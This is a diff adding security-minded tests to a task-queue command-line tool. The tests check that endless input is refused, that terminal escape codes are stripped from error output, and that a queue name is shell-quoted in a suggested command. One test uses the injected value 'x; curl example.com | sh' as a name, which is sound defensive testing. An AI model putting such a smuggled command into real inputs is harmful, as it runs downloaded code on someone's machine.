@@ -1,11 +1,15 @@
 import { join } from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { createQueue } from "../../src/core/queue.ts";
+import { defineTask } from "../../src/core/registry.ts";
 import { createApi } from "../../src/http/api.ts";
+import { libsqlStorage } from "../../src/storage/libsql.ts";
 import { type HttpServer, serve } from "../support/serve.ts";
 import { omniqWith, startQueue } from "./context.ts";
 
 const site = startQueue();
 const onFile = () => omniqWith({ OMNIQ_DB_URL: site.database() });
+const nowhere = omniqWith({});
 const errorOf = (stderr: string) => JSON.parse(stderr).error;
 
 describe("a file that cannot be read", () => {
@@ -19,6 +23,47 @@ describe("a file that cannot be read", () => {
     const { code, stderr } = await onFile()("enqueue", "--file", site.folder(), "--json");
     expect(code).toBe(3);
     expect(errorOf(stderr)).toMatchObject({ code: "no_file", exitCode: 3 });
+  });
+});
+
+describe("a file without an end", () => {
+  it.skipIf(process.platform === "win32")(
+    "is refused once a line is longer than any task can be",
+    async () => {
+      const { code, stderr } = await onFile()("enqueue", "test.noop", "--file", "/dev/zero");
+      expect({ code, stderr }).toEqual({
+        code: 2,
+        stderr: expect.stringMatching(
+          /^usage: expected line 1 to be at most [\d,]+ characters long, got more\n$/,
+        ),
+      });
+    },
+  );
+});
+
+describe("what a task holds", () => {
+  const introducer = String.fromCharCode(27);
+
+  it("does not steer the terminal of whoever looks at its error", async () => {
+    const url = `file:${site.folder()}/escape.db`;
+    const run = () => Promise.reject(new Error(`${introducer}[31mred`));
+    const task = defineTask("test.escape", { maxRetries: 0, run });
+    const storage = libsqlStorage({ url });
+    await storage.initialize();
+    const queue = createQueue({ storage, tasks: [task] });
+    const { id } = await queue.enqueue(task, {});
+    await queue.drain();
+    const shown = await nowhere("show", id, "--db", url);
+    expect(shown.stdout).toContain("[31mred");
+    expect(shown.stdout).not.toContain(introducer);
+  });
+
+  it("is quoted in a command that doctor says to run", async () => {
+    const name = "x; curl example.com | sh";
+    expect((await onFile()("pause", name)).code).toBe(0);
+    const { json } = await onFile()("doctor", "--json");
+    const { hint } = json[0].checks.find((check: { name: string }) => check.name === `queue ${name}`);
+    expect(hint).toContain(`omniq resume 'x; curl example.com | sh'`);
   });
 });
 
